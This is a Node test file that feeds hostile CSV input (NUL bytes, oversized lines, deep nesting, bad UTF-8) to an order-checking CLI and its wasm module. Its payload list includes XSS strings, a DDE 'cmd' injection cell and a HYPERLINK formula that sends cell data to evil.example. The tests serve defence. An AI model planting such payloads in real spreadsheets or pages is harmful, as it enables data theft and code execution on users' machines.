// Hostile input through both faces: the native CLI and the wasm module give the same bytes, and a
// paste over the size limit is refused with the size message. Inputs are generated here.
// Run: node --test tests/node/   (after scripts/build.sh). Timing is the bench's job, not asserted.
import assert from 'node:assert/strict';
import {spawnSync} from 'node:child_process';
import {createRequire} from 'node:module';
import {dirname, join, resolve} from 'node:path';
import test from 'node:test';
import {fileURLToPath} from 'node:url';

const root = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
const cli = process.env.LANSHOU_CLI ?? join(root, 'build/native/lanshou');
const NOW = '2025-03-12T12:00:00+08:00';
const createLanshou = createRequire(import.meta.url)(join(root, 'build/wasm/lanshou.js'));
const lanshou = await createLanshou();

const HEADER = '订单号,订单状态,支付时间,承诺发货时间,发货时间,快递单号,快递公司\n';
const GOOD = '250310-512000000000081,已发货，待签收,2025-03-10 08:00:00,2025-03-12 08:00:00,' +
  '2025-03-10 12:00:00,JT0000000000081,极兔速递\n';
const q = (s) => `"${s.replaceAll('"', '""')}"`;
const row = (sn, v) => `${sn},${q(v)},2025-03-10 08:00:00,2025-03-12 08:00:00,,${q(v)},${q(v)}\n`;
const payloads = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example/?"&A1,"点我")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)',
  '极兔😀\u202e速递\u200f', 'javascript:alert(1)'];

const cases = {
  'NUL bytes': HEADER + '250310-512000000000082,待\0发货,2025-03-10 08:00:00,2025-03-12 08:00:00,,,\n' + GOOD,
  'CR-only line ends': (HEADER + GOOD + row('250310-512000000000083', '待发货')).replaceAll('\n', '\r'),
  'unclosed quote': HEADER + GOOD + '250310-512000000000083,"待发货,2025-03-10 08:00:00,,,,\n' +
    '250310-512000000000084,待发货,2025-03-10 08:00:00,2025-03-12 08:00:00,,,\n',
  'HTML, script, formula, emoji and RTL payloads': HEADER +
    payloads.map((p, i) => row(`250310-51200000000009${i}`, p)).join('') + GOOD,
  'times out of range': HEADER + ['1900-03-10 08:00:00', '2100-03-10 08:00:00', '2025-03-10 24:00:00',
    '2025-02-30 08:00:00'].map((t, i) => `250310-51200000000010${i},待发货,${t},,,,\n`).join('') + GOOD,
  'deeply nested JSON': '['.repeat(100000) + ']'.repeat(100000),
  '10 MB line': HEADER + GOOD + '\n' + 'x'.repeat(10 << 20) + '\n',
  '100,000 columns': '订单号,快递单号,发货时间' + Array.from({length: 100000}, (_, i) => `,列${i}`).join('') +
    '\n250310-512000000000081,JT0000000000081,2025-03-10 12:00:00' + ',x'.repeat(100000) + '\n',
};

function viaCli(text, args = []) {
  const r = spawnSync(cli, ['check', '-', '--now', NOW, ...args], {input: Buffer.from(text, 'utf8'),
    maxBuffer: 1 << 28});
  assert.equal(r.error, undefined, `cannot run ${cli}: ${r.error}`);
  return r;
}

for (const [name, text] of Object.entries(cases)) {
  for (const format of ['json', 'table', 'csv']) {
    test(`${name}: CLI and wasm give the same ${format} bytes`, () => {
      const r = viaCli(text, ['--format', format]);
      assert.ok(r.status === 0 || r.status === 1, `CLI exit ${r.status}: ${r.stderr}`);
      const wasm = lanshou.check(text, JSON.stringify({now: NOW, format}));
      // The CLI's CSV starts with a BOM for Excel; the wasm glue's TextDecoder drops a leading BOM.
      assert.equal(wasm.replace(/^\uFEFF/, ''), r.stdout.toString('utf8').replace(/^\uFEFF/, ''));
      if (format === 'json') {
        const doc = JSON.parse(wasm);
        if (name !== 'deeply nested JSON') {
          assert.ok(doc.orders.some((o) => o.order_sn === '250310-512000000000081'), 'the good row is kept');
        } else {
          assert.deepEqual(doc.errors.map((e) => e.code), ['json_unreadable']);
        }
      }
      if (format === 'csv') {
        for (const line of wasm.split(/\r?\n/).slice(1)) {
          assert.ok(!/(^|,)"?[=+@\t]/.test(line), `formula cell in CSV: ${line.slice(0, 200)}`);
        }
      }
    });
  }
}

test('the payloads come back as the same text in JSON', () => {
  const doc = JSON.parse(lanshou.check(cases['HTML, script, formula, emoji and RTL payloads'],
    JSON.stringify({now: NOW})));
  const declared = doc.orders.map((o) => o.courier?.declared).filter(Boolean);
  for (const p of payloads) assert.ok(declared.includes(p), `${p} not kept`);
});

test('times out of range: one error each, with line, field and message', () => {
  const doc = JSON.parse(lanshou.check(cases['times out of range'], JSON.stringify({now: NOW})));
  const errors = doc.errors.filter((e) => e.code === 'time_out_of_range');
  assert.deepEqual(errors.map((e) => e.line), [2, 3, 4, 5]);
  for (const e of errors) {
    assert.equal(e.field, '支付时间');
    assert.match(e.message, /无法读取：时间不存在/);
  }
});

test('invalid UTF-8 through the CLI is reported, not dropped', () => {
  const bytes = Buffer.concat([Buffer.from(HEADER + GOOD), Buffer.from('250310-512000000000083,'),
    Buffer.from([0xff, 0xfe, 0x28]), Buffer.from(',2025-03-10 08:00:00,2025-03-12 08:00:00,,,\n')]);
  const r = spawnSync(cli, ['check', '-', '--now', NOW], {input: bytes});
  const doc = JSON.parse(r.stdout.toString('utf8'));
  assert.equal(r.status, 1);
  assert.deepEqual(doc.errors.map((e) => [e.line, e.code]), [[3, 'invalid_utf8']]);
  assert.equal(doc.orders.length, 2);
});

const MESSAGE = '输入内容有 100 MB，超过上限 64 MB；请分批检查';
test('a 100 MB paste is refused with the size message (CLI)', () => {
  const big = Buffer.alloc(100 << 20, 'a');
  const r = spawnSync(cli, ['check', '-', '--now', NOW], {input: big, maxBuffer: 1 << 24});
  assert.equal(r.status, 1, r.stderr.toString());
  const doc = JSON.parse(r.stdout.toString('utf8'));
  assert.deepEqual(doc.errors, [{line: 0, field: '', code: 'input_too_large', message: MESSAGE}]);
  const small = spawnSync(cli, ['check', '-', '--now', NOW, '--max-mb', '1'],
    {input: Buffer.alloc(2 << 20, 'a')});
  assert.match(small.stdout.toString('utf8'), /输入内容有 2 MB，超过上限 1 MB；请分批检查/);
});

test('a 100 MB paste is refused with the size message (wasm), and the module still works', () => {
  const doc = JSON.parse(lanshou.check('a'.repeat(100 << 20), JSON.stringify({now: NOW})));
  assert.deepEqual(doc.errors, [{line: 0, field: '', code: 'input_too_large', message: MESSAGE}]);
  const again = JSON.parse(lanshou.check(HEADER + GOOD, JSON.stringify({now: NOW})));
  assert.equal(again.orders[0].status, 'pickup_unverified');
});

test('malformed options give a message, not a crash (wasm)', () => {
  for (const options of ['not json', '[1]', '{"max_input_mb":0}', '{"now":"2025-02-30 08:00:00"}',
    '{"rules":"{\\"pickup_window_hours\\":-1}"}']) {
    const out = lanshou.check(HEADER + GOOD, options);
    const doc = JSON.parse(out);
    assert.ok(doc.error || doc.errors?.length, `${options}: ${out.slice(0, 200)}`);
  }
});
